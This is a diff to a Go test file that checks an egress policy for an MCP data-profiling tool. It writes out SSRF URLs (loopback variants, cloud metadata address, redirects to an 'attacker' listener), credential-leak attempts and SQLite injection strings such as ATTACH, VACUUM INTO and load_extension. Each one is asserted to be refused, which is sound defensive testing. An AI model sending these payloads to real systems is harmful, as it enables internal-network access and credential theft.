@@ -19,6 +19,8 @@ import (
 	"github.com/mark3labs/mcp-go/server"
 	_ "modernc.org/sqlite"
 
+	"github.com/selmem/selmem/internal/egress"
+	"github.com/selmem/selmem/internal/egress/egresstest"
 	"github.com/selmem/selmem/memstore"
 	"github.com/selmem/selmem/tools"
 )
@@ -33,10 +35,16 @@ type profileEnv struct {
 	progress   []map[string]any
 }
 
-func newProfileEnv(t *testing.T) *profileEnv {
+// newProfileEnv serves the tools with the outbound policy policy returns
+// for the data root (nil: egress.Deny()).
+func newProfileEnv(t *testing.T, policy func(root string) *egress.Policy) *profileEnv {
 	t.Helper()
 	ctx := context.Background()
 	e := &profileEnv{home: t.TempDir(), root: t.TempDir()}
+	var pol *egress.Policy
+	if policy != nil {
+		pol = policy(e.root)
+	}
 	store, err := memstore.Open(ctx, e.home, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -46,6 +54,7 @@ func newProfileEnv(t *testing.T) *profileEnv {
 	tools.Register(srv, store, &tools.Options{
 		Author:    "tester",
 		DataRoots: []string{e.root},
+		Egress:    pol,
 		Changed: func(paths []string) {
 			e.mu.Lock()
 			defer e.mu.Unlock()
@@ -151,7 +160,55 @@ func ordersCSV(n int) string {
 func fileSource(p string) map[string]any { return map[string]any{"kind": "file", "path": p} }
 
 func TestProfileSource(t *testing.T) {
-	e := newProfileEnv(t)
+	const secret = "t0ken"
+	t.Setenv("SELMEM_PROFILE_TEST_TOKEN", secret)
+	t.Setenv("SELMEM_PROFILE_SALES_DSN", "postgres://sales:hunter2@db.internal/sales")
+	// attacker is a loopback listener a model must not reach: nothing in
+	// allowed_hosts names its port.
+	attacker := egresstest.NewRecorder(t, nil)
+	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case <-r.Context().Done():
+		case <-time.After(5 * time.Second):
+		}
+	}))
+	defer slow.Close()
+	// open is an allowed endpoint the credential is not bound to.
+	open := egresstest.NewRecorder(t, nil)
+	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/redirect":
+			http.Redirect(w, r, attacker.URL+"/stolen", http.StatusFound)
+			return
+		case "/redirect-open":
+			http.Redirect(w, r, open.URL+"/items", http.StatusFound)
+			return
+		}
+		if r.Header.Get("Authorization") != "Bearer "+secret {
+			http.Error(w, "no", http.StatusUnauthorized)
+			return
+		}
+		fmt.Fprint(w, `{"data":{"items":[{"id":1,"kind":"a"},{"id":2,"kind":"b"}]}}`)
+	}))
+	defer api.Close()
+	fakePG := egresstest.NewRecorder(t, nil) // a raw listener would do; nothing may connect at all
+	e := newProfileEnv(t, func(root string) *egress.Policy {
+		p, err := egress.New(egress.Config{
+			Key:          "profile",
+			AllowedHosts: []string{api.Listener.Addr().String(), slow.Listener.Addr().String(), open.Listener.Addr().String()},
+			Credentials: map[string]egress.Credential{
+				"api": {Env: "SELMEM_PROFILE_TEST_TOKEN", Hosts: []string{api.Listener.Addr().String()}, Prefix: "Bearer ", AllowHTTP: true},
+			},
+			Connections: map[string]egress.Connection{
+				"shop":  {Driver: "sqlite", Path: filepath.Join(root, "shop.db")},
+				"sales": {Driver: "postgres", DSNEnv: "SELMEM_PROFILE_UNSET_DSN"},
+			},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return p
+	})
 	customers := writeFile(t, e.root, "customers.csv", customersCSV())
 	orders := writeFile(t, e.root, "orders.csv", ordersCSV(2000))
 	outside := writeFile(t, t.TempDir(), "secret.csv", "a,b\n1,2\n")
@@ -167,23 +224,13 @@ func TestProfileSource(t *testing.T) {
 		t.Fatal(err)
 	}
 	sdb.Close()
-	t.Setenv("SELMEM_PROFILE_TEST_DSN", db)
-	t.Setenv("SELMEM_PROFILE_TEST_TOKEN", "Bearer t0ken")
-	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		select {
-		case <-r.Context().Done():
-		case <-time.After(5 * time.Second):
-		}
-	}))
-	defer slow.Close()
-	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		if r.Header.Get("Authorization") != "Bearer t0ken" {
-			http.Error(w, "no", http.StatusUnauthorized)
-			return
-		}
-		fmt.Fprint(w, `{"data":{"items":[{"id":1,"kind":"a"},{"id":2,"kind":"b"}]}}`)
-	}))
-	defer api.Close()
+	elsewhere := t.TempDir() // where SQLite attacks try to write
+	index := filepath.Join(t.TempDir(), "index.db")
+	if err := os.WriteFile(index, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	sqlite := func(q string) map[string]any { return map[string]any{"kind": "sql", "path": db, "query": q} }
+	rest := func(url string) map[string]any { return map[string]any{"kind": "rest", "url": url} }
 
 	args := func(ws, name string, src map[string]any) map[string]any {
 		return map[string]any{"workspace": ws, "name": name, "source": src}
@@ -204,11 +251,12 @@ func TestProfileSource(t *testing.T) {
 			want: []string{"already up to date", "nothing was written"}},
 		{name: "budget", args: map[string]any{"workspace": "sales", "name": "c2", "source": fileSource(customers), "budget_tokens": 40},
 			want: []string{"# c2"}, commits: 1},
-		{name: "sqlite via dsn_env", args: args("shop", "products", map[string]any{"kind": "sql", "dsn_env": "SELMEM_PROFILE_TEST_DSN", "query": "SELECT * FROM p"}),
+		{name: "sqlite via connection", args: args("shop", "products", map[string]any{"kind": "sql", "connection": "shop", "query": "SELECT * FROM p"}),
 			want: []string{"(3 rows, 2 columns"}, not: []string{db}, commits: 1},
-		{name: "rest", args: args("shop", "items", map[string]any{"kind": "rest", "url": api.URL + "/v1/items", "records_path": "data.items",
-			"headers": map[string]any{"Authorization": "SELMEM_PROFILE_TEST_TOKEN"}}),
-			want: []string{"(2 rows, 2 columns"}, not: []string{"t0ken"}, commits: 1},
+		{name: "sqlite via path", args: args("shop", "products2", sqlite("SELECT kind FROM p")),
+			want: []string{"(3 rows, 1 columns"}, commits: 1},
+		{name: "rest", args: args("shop", "items", map[string]any{"kind": "rest", "url": api.URL + "/v1/items", "records_path": "data.items", "credential": "api"}),
+			want: []string{"(2 rows, 2 columns"}, not: []string{secret}, commits: 1},
 
 		{name: "outside data roots", args: args("sales", "x", fileSource(outside)), isError: true,
 			want: []string{"is outside the data roots", "Only files under " + e.root}},
@@ -232,18 +280,53 @@ func TestProfileSource(t *testing.T) {
 			want: []string{`workspace "../etc" must be a single name`}},
 		{name: "reserved name", args: args("sales", "relationships", fileSource(orders)), isError: true,
 			want: []string{"reserved"}},
-		{name: "sql literal password", args: args("shop", "x", map[string]any{"kind": "sql", "dsn": "postgres://app:hunter2@db.internal/sales", "query": "SELECT 1"}), isError: true,
-			want: []string{"holds a password", "dsn_env"}, not: []string{"hunter2", "db.internal"}},
-		{name: "sql env without prefix", args: args("shop", "x", map[string]any{"kind": "sql", "dsn_env": "HOME", "query": "SELECT 1"}), isError: true,
-			want: []string{"does not start with SELMEM_PROFILE_"}},
-		{name: "sqlite dsn outside roots", args: args("shop", "x", map[string]any{"kind": "sql", "dsn": filepath.Join(t.TempDir(), "x.db"), "query": "SELECT 1"}), isError: true,
+		{name: "sqlite outside roots", args: args("shop", "x", map[string]any{"kind": "sql", "path": filepath.Join(t.TempDir(), "x.db"), "query": "SELECT 1"}), isError: true,
 			want: []string{"outside the data roots"}},
-		{name: "header env without prefix", args: args("shop", "x", map[string]any{"kind": "rest", "url": api.URL, "headers": map[string]any{"X-Key": "AWS_SECRET_ACCESS_KEY"}}), isError: true,
-			want: []string{"does not start with SELMEM_PROFILE_"}},
 		{name: "rest timeout", args: args("shop", "x", map[string]any{"kind": "rest", "url": slow.URL + "/slow", "timeout_seconds": 1}), isError: true,
 			want: []string{"did not answer within 1s", "nothing was written"}},
-		{name: "rest unauthorized", args: args("shop", "x", map[string]any{"kind": "rest", "url": api.URL + "/v1/items"}), isError: true,
+		{name: "rest unauthorized", args: args("shop", "x", rest(api.URL+"/v1/items")), isError: true,
 			want: []string{"HTTP 401"}},
+		{name: "unknown credential", args: args("shop", "x", map[string]any{"kind": "rest", "url": api.URL, "credential": "aws"}), isError: true,
+			want: []string{`credential "aws" is not configured (configured: api)`, "profile.credentials"}},
+		{name: "connection without its DSN", args: args("shop", "x", map[string]any{"kind": "sql", "connection": "sales", "query": "SELECT 1"}), isError: true,
+			want: []string{"SELMEM_PROFILE_UNSET_DSN is not set"}},
+
+		// Each attack below worked before package egress; now none of them
+		// reaches its target (checked after the table).
+		{name: "rest loopback", args: args("shop", "x", rest(attacker.URL+"/")), isError: true,
+			want: []string{"refused: 127.0.0.1 is a loopback address; allow it with profile.allowed_hosts"}},
+		{name: "rest localhost", args: args("shop", "x", rest("http://localhost:"+attacker.Port()+"/")), isError: true,
+			want: []string{"refused: localhost resolves to a loopback address"}},
+		{name: "rest ipv6 loopback", args: args("shop", "x", rest("http://[::1]:"+attacker.Port()+"/")), isError: true,
+			want: []string{"refused: ::1 is a loopback address"}},
+		{name: "rest hex loopback", args: args("shop", "x", rest("http://0x7f.1:"+attacker.Port()+"/")), isError: true,
+			want: []string{"refused: 0x7f.1 is a loopback address"}},
+		{name: "rest metadata", args: args("shop", "x", rest("http://169.254.169.254/latest/meta-data/")), isError: true,
+			want: []string{"cloud metadata address"}},
+		{name: "rest redirect to loopback", args: args("shop", "x", map[string]any{"kind": "rest", "url": api.URL + "/redirect", "credential": "api"}), isError: true,
+			want: []string{"refused: the redirect to 127.0.0.1 is a loopback address"}},
+		{name: "credential not sent to another host", args: args("shop", "leak", map[string]any{"kind": "rest", "url": open.URL + "/items", "credential": "api"}),
+			commits: 1, want: []string{"(1 rows"}},
+		{name: "credential dropped on redirect", args: args("shop", "leak2", map[string]any{"kind": "rest", "url": api.URL + "/redirect-open", "credential": "api"}),
+			commits: 1, want: []string{"(1 rows"}},
+		{name: "header env leak", args: args("shop", "x", map[string]any{"kind": "rest", "url": attacker.URL, "headers": map[string]any{"X-Leak": "SELMEM_PROFILE_SALES_DSN"}}), isError: true,
+			want: []string{`source does not take the field(s) "headers"`}},
+		{name: "model dsn", args: args("shop", "x", map[string]any{"kind": "sql", "dsn": "host=127.0.0.1 port=" + fakePG.Port() + " user=postgres dbname=postgres", "query": "SELECT 1"}), isError: true,
+			want: []string{`source does not take the field(s) "dsn"`}},
+		{name: "model dsn_env", args: args("shop", "x", map[string]any{"kind": "sql", "dsn_env": "SELMEM_PROFILE_SALES_DSN", "query": "SELECT 1"}), isError: true,
+			want: []string{`source does not take the field(s) "dsn_env"`}, not: []string{"hunter2", "db.internal"}},
+		{name: "sqlite attach read", args: args("shop", "x", sqlite("ATTACH DATABASE '"+index+"' AS x; SELECT * FROM x.sqlite_master")), isError: true,
+			want: []string{"more than one statement"}},
+		{name: "sqlite attach create", args: args("shop", "x", sqlite("ATTACH DATABASE '"+filepath.Join(elsewhere, "new.db")+"' AS x")), isError: true,
+			want: []string{"ATTACH is not allowed"}},
+		{name: "sqlite vacuum into", args: args("shop", "x", sqlite("VACUUM INTO '"+filepath.Join(elsewhere, "copy.db")+"'")), isError: true,
+			want: []string{"VACUUM is not allowed"}},
+		{name: "sqlite delete", args: args("shop", "x", sqlite("DELETE FROM p; SELECT 1")), isError: true,
+			want: []string{"more than one statement"}},
+		{name: "sqlite load_extension", args: args("shop", "x", sqlite("SELECT load_extension('"+filepath.Join(elsewhere, "x.so")+"')")), isError: true,
+			want: []string{"not authorized"}},
+		{name: "sqlite pragma write", args: args("shop", "x", sqlite("PRAGMA journal_mode = delete")), isError: true,
+			want: []string{"PRAGMA is not allowed"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			before := e.commits(t)
@@ -265,6 +348,33 @@ func TestProfileSource(t *testing.T) {
 				t.Errorf("%d commits, want %d", got, tc.commits)
 			}
 		})
+	}
+
+	if n := len(attacker.Requests()); n != 0 {
+		t.Errorf("the attacker's listener received %d requests, want none", n)
+	}
+	if n := len(fakePG.Requests()); n != 0 {
+		t.Errorf("the fake Postgres received %d connections, want none", n)
+	}
+	for _, h := range open.Requests() {
+		if strings.Contains(fmt.Sprint(h), secret) {
+			t.Errorf("the credential reached a host it is not bound to: %v", h)
+		}
+	}
+	if len(open.Requests()) != 2 {
+		t.Errorf("the open endpoint got %d requests, want 2", len(open.Requests()))
+	}
+	if entries, _ := os.ReadDir(elsewhere); len(entries) != 0 {
+		t.Errorf("SQLite attacks created %v", entries)
+	}
+	sdb, err = sql.Open("sqlite", db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sdb.Close()
+	var rows int
+	if err := sdb.QueryRow("SELECT count(*) FROM p").Scan(&rows); err != nil || rows != 3 {
+		t.Errorf("the source table has %d rows (%v), want 3", rows, err)
 	}
 
 	md := e.show(t, "workspaces/sales/schemas/customers.md")
@@ -297,7 +407,7 @@ func TestProfileSource(t *testing.T) {
 }
 
 func TestProfileSource_Structured(t *testing.T) {
-	e := newProfileEnv(t)
+	e := newProfileEnv(t, nil)
 	writeFile(t, e.root, "customers.csv", customersCSV())
 	orders := writeFile(t, e.root, "orders.csv", ordersCSV(500))
 	if _, _, isErr := e.call(t, map[string]any{"workspace": "w", "name": "customers", "source": fileSource(filepath.Join(e.root, "customers.csv"))}, nil); isErr {
@@ -327,7 +437,7 @@ func TestProfileSource_Structured(t *testing.T) {
 }
 
 func TestProfileSource_Progress(t *testing.T) {
-	e := newProfileEnv(t)
+	e := newProfileEnv(t, nil)
 	big := writeFile(t, e.root, "big.csv", ordersCSV(300_000)) // ~7 MB
 	text, _, isErr := e.call(t, map[string]any{"workspace": "w", "name": "big", "source": fileSource(big)}, &mcp.Meta{ProgressToken: "tok-1"})
 	if isErr {
